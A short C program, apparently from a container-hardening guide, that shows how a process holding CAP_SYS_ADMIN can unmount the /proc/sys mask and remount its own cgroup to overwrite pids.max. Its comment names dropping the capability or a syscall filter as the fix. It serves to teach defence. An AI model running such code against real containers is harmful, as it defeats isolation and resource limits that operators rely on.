/*
 * undo.c LIMIT: undo what sections 15 and 2 did.
 *
 * Whoever may mount can take away what covers /proc/sys.  He can mount the container's own
 * cgroup, too, and write another LIMIT to its pids.max.  Both need CAP_SYS_ADMIN.  What
 * closes this: dropping it (section 16), or a call filter that refuses these calls (17).
 */
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int fd;

	if (argc != 2)
		errx(2, "usage: %s LIMIT", argv[0]);
	printf("unmask: %s\n", umount2("/proc/sys", MNT_DETACH) < 0 ? strerror(errno) : "done");
	fflush(stdout);
	if (mount("pids", "/tmp", "cgroup", 0, "pids") < 0 &&
	    mount("v2", "/tmp", "cgroup2", 0, NULL) < 0)
		err(1, "mount");
	fd = open("/tmp/pids.max", O_WRONLY);
	if (fd < 0 || write(fd, argv[1], strlen(argv[1])) < 0)
		err(1, "/tmp/pids.max");
	return 0;
}
